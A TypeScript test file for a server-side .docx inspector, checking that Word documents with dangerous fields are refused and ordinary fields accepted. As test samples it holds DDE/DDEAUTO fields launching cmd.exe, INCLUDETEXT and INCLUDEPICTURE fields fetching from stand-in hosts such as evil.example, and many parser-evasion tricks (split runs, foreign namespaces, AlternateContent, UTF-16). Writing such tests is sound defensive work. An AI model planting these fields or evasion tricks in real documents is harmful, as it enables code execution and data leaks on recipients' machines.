import { expect, test } from "vitest";
import { inspectFile } from "~/features/leads/receive/inspect-file.server";
import { type Docx, docxOf, field, override } from "~tests/support/sample-documents";

const word = "application/vnd.openxmlformats-officedocument.wordprocessingml";
const namespace = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const instructions = (text: string) => `<w:fldSimple w:instr="${text}"><w:r><w:t>x</w:t></w:r></w:fldSimple>`;
const twoWays = (choice: string, fallback: string) =>
  `<mc:AlternateContent><mc:Choice Requires="wps"><w:instrText>${choice}</w:instrText></mc:Choice><mc:Fallback><w:instrText>${fallback}</w:instrText></mc:Fallback></mc:AlternateContent>`;
const nested = (inner: string, rest: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${inner}<w:r><w:instrText>${rest}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;

async function verdictOn(docx: Docx) {
  const verdict = await inspectFile(docxOf(docx));
  return "problem" in verdict ? verdict.problem : verdict.kind;
}

/** Fields that start a program or bring in another file, as plain as they come and hidden. */
const harmful: Record<string, Docx> = {
  "a field DDE": { body: field(' DDE "c:\\\\cmd.exe" "/k" ') },
  "a field DDEAUTO over runs": { body: field(" D", "DEA", "UTO c:\\cmd.exe ") },
  "a field in small letters": { body: field("ddeauto c:\\cmd.exe") },
  "a field in one piece": { body: instructions(" DDEAUTO c:\\cmd.exe ") },
  "a field with references": { body: field("&#68;DE", "AUTO x") },
  "a field in CDATA": { body: field("<![CDATA[DDEAUTO x]]>") },
  "a field that brings in a file": { body: field(" INCLUDETEXT http://evil.example/a.docx ") },
  "a field inside a field": { body: nested(field("DDEAUTO x"), " IF 1=1 ") },
  "a field whose name is computed": { body: nested(field("QUOTE 68 68 69"), " c:\\cmd.exe ") },
  "a field behind data of its own": {
    body: field(
      "</w:instrText></w:r><w:r><w:drawing><wp:posOffset>0</wp:posOffset></w:drawing><w:instrText>DDE x",
    ),
  },
  "a field behind the data of a field": {
    body: field("DDE x").replace('"begin"/>', '"begin"><w:fldData>AAAA</w:fldData></w:fldChar>'),
  },
  "a field behind deleted text": {
    body: field("</w:instrText><w:delInstrText>x</w:delInstrText><w:instrText>DDE x"),
  },
  "a field that is the second of two ways": {
    body: field(
      "</w:instrText><mc:AlternateContent><mc:Choice><w:instrText>x</w:instrText></mc:Choice><mc:Fallback><w:instrText>DDE x</w:instrText></mc:Fallback></mc:AlternateContent><w:instrText>",
    ),
  },
  "a field whose text ends in the first of two ways": {
    body: field(
      '</w:instrText><mc:AlternateContent><mc:Choice><w:fldChar w:fldCharType="separate"/></mc:Choice></mc:AlternateContent><w:instrText>DDE x',
    ),
  },
  "a field that only a reader of foreign elements sees ended": {
    body: field(' </w:instrText><z:fldChar xmlns:z="urn:z" z:fldCharType="end"/><w:instrText>DDEAUTO x'),
  },
  "a field behind a foreign text": {
    body: field('</w:instrText><z:instrText xmlns:z="urn:z">ZZ</z:instrText><w:instrText>DDE c:\\x'),
  },
  "a field behind a text inside a foreign element": {
    body: field(
      '</w:instrText><z:a xmlns:z="urn:z"><w:instrText>ZZ</w:instrText></z:a><w:instrText>DDE c:\\x',
    ),
  },
  "a field whose end lies inside a foreign element": {
    body: field(
      '</w:instrText><z:a xmlns:z="urn:z"><w:fldChar w:fldCharType="end"/></z:a><w:instrText>DDEAUTO x',
    ),
  },
  "a field whose prefix gets another meaning": {
    body: field('</w:instrText><w:instrText xmlns:w="urn:z">ZZ</w:instrText><w:instrText>DDE x'),
  },
  "a field behind a kind that only looks like one": {
    body: field(
      '</w:instrText><w:fldChar xmlns:fldCharType="separate"/><w:instrText>DDE x</w:instrText><w:instrText>',
    ),
  },
  "a field with a text behind its result": {
    body: field(
      'PAGE</w:instrText><w:fldChar w:fldCharType="separate"/><w:instrText>D</w:instrText><w:instrText>DE x',
    ),
  },
  "a field of which two ways hold one half each": {
    body: field(`</w:instrText>${twoWays("DD", "ZZ")}${twoWays("ZZ", "EAUTO")}<w:instrText> c:\\cmd.exe`),
  },
  "a field in the second of two choices": {
    body: field(
      "</w:instrText><mc:AlternateContent><mc:Choice Requires='nope'><w:instrText>ZZ</w:instrText></mc:Choice><mc:Choice Requires='wps'><w:instrText>DDE c:\\x</w:instrText></mc:Choice></mc:AlternateContent><w:instrText>",
    ),
  },
  "a field behind much white space": { body: field(...Array.from({ length: 300 }, () => "  "), "DDE x") },
  "a picture from a network, which is fetched at once": {
    body: field(' INCLUDEPICTURE "\\\\\\\\evil\\\\a.png" \\d ').replace('"begin"', '"begin" w:dirty="true"'),
  },
  "a picture from a network, by its scheme": { body: field(" INCLUDEPICTURE \\d file://evil/a.png") },
  "a film as a page": {
    body: '<w:p><wp15:webVideoPr xmlns:wp15="x" embeddedHtml="&lt;iframe src=&quot;http://evil.example&quot;/>"/></w:p>',
  },
  "a field in a header": {
    types: override("/word/header1.xml", `${word}.header+xml`),
    parts: [["word/header1.xml", `<w:hdr xmlns:w="${namespace}">${field("DDEAUTO x")}</w:hdr>`]],
  },
  "a field in a part that calls itself something else": {
    parts: [["word/noten.bin", `<w:x xmlns:w="${namespace}">${field("DDEAUTO x")}</w:x>`]],
  },
};

test.each(Object.entries(harmful))("refused: %s", async (_, docx) => {
  expect(await verdictOn(docx)).toBe("macros");
});

test("refused in UTF-16 too, with and without a mark, in both orders", async () => {
  const xml = `<w:hdr xmlns:w="${namespace}">${field("DDEAUTO x")}</w:hdr>`;
  const little = Uint8Array.from(Buffer.from(xml, "utf16le"));
  const big = Uint8Array.from(Buffer.from(xml, "utf16le").swap16());
  const marked = Uint8Array.from([0xff, 0xfe, ...little]);
  for (const content of [little, big, marked, Uint8Array.from([0xfe, 0xff, ...big])])
    expect(await verdictOn({ parts: [["word/header1.xml", content]] })).toBe("macros");
});

const honest: Record<string, Docx> = {
  "the fields of letters": {
    body: [
      field(' HYPERLINK "https://voorbeeld.example/added" '),
      field(" TOC \\o ", '"1-3" '),
      field(" MERGEFIELD Naam "),
      field(" IF 1 = 1 &quot;ja&quot; "),
      instructions(" DATE \\@ &quot;d MMMM yyyy&quot; "),
      field(' INCLUDEPICTURE "C:\\\\Fotos\\\\a.png" \\* MERGEFORMAT ', " \\d"),
      field(' INCLUDEPICTURE "https://voorbeeld.example/a.png" \\* MERGEFORMATINET '),
      `<w:p><mc:AlternateContent><mc:Choice>${field(" PAGE ")}</mc:Choice><mc:Fallback>${field(" PAGE ")}</mc:Fallback></mc:AlternateContent></w:p>`,
      "<w:p><w:r><w:t>DDE en INCLUDETEXT zijn velden; LINK ook.</w:t></w:r></w:p>",
    ].join(""),
  },
};

test.each(Object.entries(honest))("accepted: %s", async (_, docx) => {
  expect(await verdictOn(docx)).toBe("docx");
});

test("a field with megabytes of white space costs no more than its length", async () => {
  // Six hundred thousand steps; with a look at all of the text at each of them, minutes.
  const spaces = "<w:t> </w:t>".repeat(600_000);
  expect(await verdictOn({ body: field(`</w:instrText>${spaces}<w:instrText> PAGE`) })).toBe("docx");
});
